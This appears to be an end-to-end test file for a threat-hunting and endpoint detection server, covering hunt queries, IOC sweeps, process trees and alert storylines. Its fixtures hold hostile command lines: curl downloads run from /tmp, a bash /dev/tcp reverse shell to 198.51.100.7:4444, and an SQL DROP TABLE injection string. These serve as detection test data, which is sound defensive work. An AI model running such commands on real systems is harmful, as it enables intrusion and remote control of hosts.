// End-to-end hunting on a real server: query-language hunts over posted events (filters, stats, sequences), located
// compile errors, a scheduled hunt that raises an alert, and the `vigil hunt` CLI.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { randomUUID } from 'node:crypto';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { repoRoot } from '@vigil/common';
import { ApiClient, cleanup, request, startServer, waitFor, type ServerHandle } from './harness.js';
import { batchBody } from './events.js';

let server: ServerHandle;
let api: ApiClient;
let hostA: { agentId: string; key: string; cert: string };
let hostB: { agentId: string; key: string; cert: string };
const sequences = new Map<string, number>();

before(async () => {
  server = await startServer();
  api = await new ApiClient(server).login();
  hostA = await api.enrollKeys();
  hostB = await api.enrollKeys();
});
after(cleanup);

function event(host: string, category: string, action: string, fields: Record<string, unknown>, offsetMs = 0): Record<string, unknown> {
  const sequence = (sequences.get(host) ?? 0) + 1;
  sequences.set(host, sequence);
  return { '@timestamp': new Date(Date.now() - 60_000 + offsetMs).toISOString(), 'event.id': randomUUID(), 'event.sequence': sequence, 'event.category': category, 'event.action': action, 'host.id': host, ...fields };
}

async function post(agent: { agentId: string; key: string; cert: string }, events: Record<string, unknown>[]): Promise<void> {
  const reply = await request(`https://127.0.0.1:${server.agentPort}/agent/v1/events`, { raw: batchBody(agent.agentId, events), ca: server.caPem, key: agent.key, cert: agent.cert });
  assert.equal(reply.status, 200, JSON.stringify(reply.body));
}

async function hunt(query: string, extra: Record<string, unknown> = {}) {
  return api.post('/api/v1/hunt', { query, ...extra });
}

test('hunts filter, aggregate and find ordered sequences over every host', async () => {
  const proc = (host: string, exe: string, commandLine: string, offset: number) =>
    event(host, 'process', 'start', { 'process.pid': 100 + offset, 'process.executable': exe, 'process.name': exe.split('/').pop(), 'process.command_line': commandLine, 'user.name': 'www-data' }, offset);
  await post(hostA, [
    proc(hostA.agentId, '/usr/bin/curl', 'curl -o /tmp/x http://203.0.113.7/x', 0),
    event(hostA.agentId, 'network', 'connect', { 'process.pid': 101, 'destination.ip': '203.0.113.7', 'destination.port': 443, 'network.transport': 'tcp' }, 500),
    proc(hostA.agentId, '/usr/bin/base64', 'base64 -d /tmp/x', 1000),
  ]);
  await post(hostB, [proc(hostB.agentId, '/usr/bin/base64', 'base64 -d payload', 0), proc(hostB.agentId, '/usr/bin/ls', 'ls -la', 10)]);

  const filtered = await hunt('process where process.command_line contains "BASE64 -D"');
  assert.equal(filtered.status, 200, JSON.stringify(filtered.body));
  assert.equal(filtered.body.kind, 'events');
  assert.equal(filtered.body.rows.length, 2);

  const stats = await hunt('process | stats count() as n by host.id | sort n desc, host.id asc');
  assert.deepEqual(stats.body.rows.map((r: Record<string, unknown>) => [r['host.id'], r.n]), [[hostA.agentId, 2], [hostB.agentId, 2]].sort((a, b) => String(a[0]).localeCompare(String(b[0]))));

  const cidr = await hunt('network where destination.ip in cidr("203.0.113.0/24") and destination.port == 443');
  assert.equal(cidr.body.rows.length, 1);

  const chain = await hunt('sequence by host.id maxspan=5m [process where process.name == "curl"] [network where destination.port == 443] [process where process.name == "base64"]');
  assert.equal(chain.status, 200, JSON.stringify(chain.body));
  assert.equal(chain.body.kind, 'sequence');
  assert.equal(chain.body.rows.length, 1);
  assert.equal(chain.body.rows[0]['host.id'], hostA.agentId);

  const scoped = await hunt('process.name == "base64"', { host_ids: [hostB.agentId] });
  assert.equal(scoped.body.rows.length, 1);
});

test('a query that does not compile is refused with the column and a hint; values never change the SQL', async () => {
  const bad = await hunt('process where proces.name == "x"');
  assert.equal(bad.status, 400);
  assert.equal(bad.body.error.location.column, 15);
  assert.match(JSON.stringify(bad.body.error), /process\.name/);
  const hostile = await hunt(`process where process.command_line contains "'; DROP TABLE events_process; --"`);
  assert.equal(hostile.status, 200);
  assert.equal(hostile.body.rows.length, 0);
  const still = await hunt('process | stats count() as n');
  assert.equal(still.body.rows[0].n, 4);
});

test('a scheduled hunt with a threshold raises an alert', async () => {
  // A new scheduled hunt first looks back one interval: this event is inside it, the earlier ones are not.
  await post(hostA, [event(hostA.agentId, 'process', 'start', { 'process.pid': 999, 'process.executable': '/usr/bin/base64', 'process.name': 'base64', 'process.command_line': 'base64 -d /tmp/y' }, 60_000)]);
  const saved = await api.post('/api/v1/hunts', { name: 'decode into files', query: 'process where process.name == "base64" and process.command_line contains "/tmp/"', interval_s: 10, threshold: 1, level: 'high', tags: ['attack.t1140'] });
  assert.equal(saved.status, 201, JSON.stringify(saved.body));
  const alert = await waitFor('the scheduled hunt to raise an alert', async () => {
    const alerts = (await api.get(`/api/v1/alerts?rule_id=${encodeURIComponent(`hunt:${saved.body.id}`)}`)).body as { hostId: string; kind: string; level: string }[];
    return alerts[0];
  }, 15_000);
  assert.equal(alert.kind, 'hunt');
  assert.equal(alert.hostId, hostA.agentId);
  assert.equal(alert.level, 'high');
  const list = (await api.get('/api/v1/hunts')).body as { id: string; lastRows: number }[];
  assert.equal(list.find((h) => h.id === saved.body.id)?.lastRows, 1);
  const refused = await api.post('/api/v1/hunts', { name: 'broken', query: 'process where nonsense.field == 1' });
  assert.equal(refused.status, 400);
});

test('vigil hunt prints a table or JSON lines', async () => {
  const token = (await api.post('/api/v1/api-tokens', { name: 'cli', role: 'viewer' })).body.token as string;
  const cli = join(repoRoot(), 'apps', 'cli', 'bin', 'vigil.js');
  const args = ['hunt', 'process | stats count() as n by process.name | sort process.name', '--server', server.apiUrl, '--ca-file', join(server.dataDir, 'pki', 'ca.crt')];
  const table = spawnSync(process.execPath, [cli, ...args], { env: { ...process.env, VIGIL_API_TOKEN: token }, encoding: 'utf8' });
  assert.equal(table.status, 0, table.stderr);
  assert.match(table.stdout, /^process\.name\s+n\n-+\s+-+\nbase64\s+3\ncurl\s+1\nls\s+1$/m);
  const json = spawnSync(process.execPath, [cli, ...args, '--json'], { env: { ...process.env, VIGIL_API_TOKEN: token }, encoding: 'utf8' });
  assert.deepEqual(json.stdout.trim().split('\n').map((line) => JSON.parse(line)), [{ 'process.name': 'base64', n: 3 }, { 'process.name': 'curl', n: 1 }, { 'process.name': 'ls', n: 1 }]);
  const bad = spawnSync(process.execPath, [cli, 'hunt', 'process where x ==', ...args.slice(2)], { env: { ...process.env, VIGIL_API_TOKEN: token }, encoding: 'utf8' });
  assert.equal(bad.status, 1);
  assert.match(bad.stderr, /vigil hunt: /);
});

test('an analyst IOC sweep finds which hosts ran a hash, first seen, counts and the first host and event', async () => {
  const hash = 'ab'.repeat(32);
  const run = (host: string, offset: number) =>
    event(host, 'process', 'start', { 'process.pid': 500 + offset, 'process.executable': '/tmp/dropper', 'process.name': 'dropper', 'process.hash.sha256': hash }, offset);
  const first = run(hostB.agentId, 100);
  await post(hostB, [first]);
  await post(hostA, [run(hostA.agentId, 200), run(hostA.agentId, 300)]);
  const queued = await api.post('/api/v1/sweeps', { indicators: [{ type: 'sha256', value: hash.toUpperCase() }, { type: 'ip', value: '198.51.100.250' }], description: 'case 1' });
  assert.equal(queued.status, 202, JSON.stringify(queued.body));
  const done = await waitFor('the sweep to finish', async () => {
    const sweep = (await api.get(`/api/v1/sweeps/${queued.body.id}`)).body;
    return sweep.state === 'done' ? sweep : undefined;
  });
  const sha = done.indicators.find((i: { type: string }) => i.type === 'sha256');
  assert.equal(sha.value, hash, 'values are stored canonical (lower-case hex)');
  assert.equal(sha.count, 3);
  assert.deepEqual([...sha.hosts].sort(), [hostA.agentId, hostB.agentId].sort());
  assert.equal(sha.first_host_id, hostB.agentId);
  assert.equal(sha.first_event_id, first['event.id']);
  const ip = done.indicators.find((i: { type: string }) => i.type === 'ip');
  assert.equal(ip.count, 0);
  assert.deepEqual(ip.hosts, []);
});

test('process tree: ancestors, descendants and what each process did, across pid reuse', async () => {
  const proc = (entity: string, parent: string | undefined, pid: number, exe: string, commandLine: string, offset: number, action = 'start') =>
    event(hostA.agentId, 'process', action, {
      'process.pid': pid, 'process.entity_id': entity, ...(parent ? { 'process.parent.entity_id': parent } : {}), 'process.parent.pid': 1,
      'process.executable': exe, 'process.name': exe.split('/').pop(), 'process.command_line': commandLine,
    }, offset);
  await post(hostA, [
    proc('E-sshd', undefined, 700, '/usr/sbin/sshd', 'sshd: alice', 400),
    proc('E-bash', 'E-sshd', 701, '/usr/bin/bash', '-bash', 401),
    proc('E-curl', 'E-bash', 702, '/usr/bin/curl', 'curl -o /tmp/p http://203.0.113.9/p', 402),
    event(hostA.agentId, 'network', 'connect', { 'process.pid': 702, 'process.entity_id': 'E-curl', 'destination.ip': '203.0.113.9', 'destination.port': 80 }, 403),
    proc('E-chmod', 'E-bash', 703, '/usr/bin/chmod', 'chmod +x /tmp/p', 404),
    proc('E-p', 'E-bash', 702, '/tmp/p', '/tmp/p', 405),
    proc('E-sh', 'E-p', 704, '/usr/bin/sh', 'sh -c id', 406),
    proc('E-sh', 'E-p', 704, '/usr/bin/sh', 'sh -c id', 407, 'exit'),
  ]);
  const reply = await api.get(`/api/v1/hosts/${hostA.agentId}/process-tree?entity_id=E-bash`);
  assert.equal(reply.status, 200, JSON.stringify(reply.body));
  const tree = reply.body;
  assert.deepEqual(tree.ancestors.map((n: { entityId: string }) => n.entityId), ['E-sshd']);
  assert.deepEqual(tree.nodes.map((n: { entityId: string }) => n.entityId).sort(), ['E-bash', 'E-chmod', 'E-curl', 'E-p', 'E-sh']);
  assert.ok(tree.edges.some((e: { parent: string; child: string }) => e.parent === 'E-p' && e.child === 'E-sh'));
  const curl = tree.nodes.find((n: { entityId: string }) => n.entityId === 'E-curl');
  assert.deepEqual(curl.activity, { 'network/connect': 1 });
  const p = tree.nodes.find((n: { entityId: string }) => n.entityId === 'E-p');
  assert.equal(p.pid, 702, 'pid 702 reused: a different process with its own entity id');
  assert.equal(p.executable, '/tmp/p');
  const sh = tree.nodes.find((n: { entityId: string }) => n.entityId === 'E-sh');
  assert.ok(sh.end, 'the exit event closes the node');
  assert.equal((await api.get(`/api/v1/hosts/${hostA.agentId}/process-tree?entity_id=nope`)).status, 404);
});

test('alert storyline: the alert events, the acting process tree, their activity and the ATT&CK tags', async () => {
  const base = { 'process.parent.pid': 1 };
  const shell = event(hostB.agentId, 'process', 'start', { ...base, 'process.pid': 900, 'process.entity_id': 'S-web', 'process.executable': '/usr/sbin/nginx', 'process.name': 'nginx', 'process.command_line': 'nginx: worker process' }, 500);
  const reverse = event(hostB.agentId, 'process', 'start', {
    ...base, 'process.pid': 901, 'process.entity_id': 'S-rev', 'process.parent.entity_id': 'S-web', 'process.parent.executable': '/usr/sbin/nginx',
    'process.executable': '/usr/bin/bash', 'process.name': 'bash', 'process.command_line': 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'process.args': ['bash', '-i'],
  }, 501);
  const connect = event(hostB.agentId, 'network', 'connect', { 'process.pid': 901, 'process.entity_id': 'S-rev', 'destination.ip': '198.51.100.7', 'destination.port': 4444 }, 502);
  await post(hostB, [shell, reverse, connect]);
  const alert = await waitFor('the reverse shell alert', async () => {
    const alerts = (await api.get(`/api/v1/alerts?host_id=${hostB.agentId}`)).body as { id: string; eventIds: string[] }[];
    return alerts.find((a) => a.eventIds.includes(String(reverse['event.id'])));
  });
  const story = await api.get(`/api/v1/alerts/${alert.id}/storyline?window_s=600`);
  assert.equal(story.status, 200, JSON.stringify(story.body));
  assert.deepEqual(story.body.alertEvents.map((e: Record<string, unknown>) => e['event.id']), [reverse['event.id']]);
  assert.equal(story.body.tree.rootEntityId, 'S-rev');
  assert.deepEqual(story.body.tree.ancestors.map((n: { entityId: string }) => n.entityId), ['S-web']);
  assert.ok(story.body.events.some((e: Record<string, unknown>) => e['event.id'] === connect['event.id']), 'the connection of the acting process is in the storyline');
  assert.ok(story.body.tags.some((tag: string) => tag.startsWith('attack.')), JSON.stringify(story.body.tags));
});

test('host timeline pages with next_cursor: every event once, in order', async () => {
  const all = (await api.get(`/api/v1/hosts/${hostA.agentId}/events?order=asc&limit=10000`)).body;
  assert.equal(all.next_cursor, null);
  const paged: string[] = [];
  let cursor: string | null = null;
  for (let page = 0; page < 100; page++) {
    const reply: { status: number; body: { events: Record<string, unknown>[]; next_cursor: string | null } } = await api.get(`/api/v1/hosts/${hostA.agentId}/events?order=asc&limit=3${cursor ? `&cursor=${cursor}` : ''}`);
    assert.equal(reply.status, 200, JSON.stringify(reply.body));
    paged.push(...reply.body.events.map((e) => String(e['event.id'])));
    cursor = reply.body.next_cursor;
    if (!cursor) break;
  }
  assert.deepEqual(paged, all.events.map((e: Record<string, unknown>) => e['event.id']));
  assert.ok(!('vigil.position' in all.events[0]));
  assert.equal((await api.get(`/api/v1/hosts/${hostA.agentId}/events?cursor=garbage`)).status, 400);
});
